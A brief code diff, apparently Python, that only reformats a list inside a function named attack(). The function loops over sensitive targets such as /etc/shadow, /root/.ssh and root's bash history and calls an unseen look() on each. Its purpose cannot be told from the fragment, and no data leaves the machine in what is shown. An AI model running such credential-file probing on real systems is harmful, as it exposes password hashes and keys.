@@ -24,7 +24,17 @@ def look(path):
 
 def attack():
     found = [TARGETS[key] for key in ('home_secret',) if key in TARGETS]
-    for place in [*found, *['/etc/shadow', '/root/.ssh', '/root/.bash_history', '/root/.config', '/var/spool/cron', '/var/lib/dpkg/status']]:
+    for place in [
+        *found,
+        *[
+            '/etc/shadow',
+            '/root/.ssh',
+            '/root/.bash_history',
+            '/root/.config',
+            '/var/spool/cron',
+            '/var/lib/dpkg/status',
+        ],
+    ]:
         look(place)
 
 
